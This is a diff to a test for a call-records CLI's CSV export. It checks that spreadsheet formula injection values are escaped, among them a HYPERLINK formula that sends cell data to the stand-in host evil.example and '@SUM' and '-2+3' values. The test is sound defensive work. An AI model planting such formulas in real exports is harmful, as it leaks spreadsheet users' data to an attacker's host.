@@ -87,7 +87,7 @@ describe('switchboard calls, against a local DynamoDB', () => {
       const result = await cli(['calls', 'export', '--since', '7d', '--format', 'csv']);
       expect(result.code).toBe(0);
       const hostile = result.stdout.split('\n').find((line) => line.startsWith('rtc_hostile,'));
-      expect(hostile).toContain(`,12,'+17134810111,'+14067704205,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",completed,'@SUM(1+1),,,0,0,0,caller: -2+3`);
+      expect(hostile).toContain(`,12,'+17134810111,'+14067704205,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",completed,'@SUM(1+1),,,0,0,0,0,,,caller: -2+3`);
       const missed = result.stdout.split('\n').find((line) => line.startsWith('rtc_missed,'));
       expect(missed).toContain(",'+17134810111,'+14067704205,,missed,caller-hung-up,");
     });
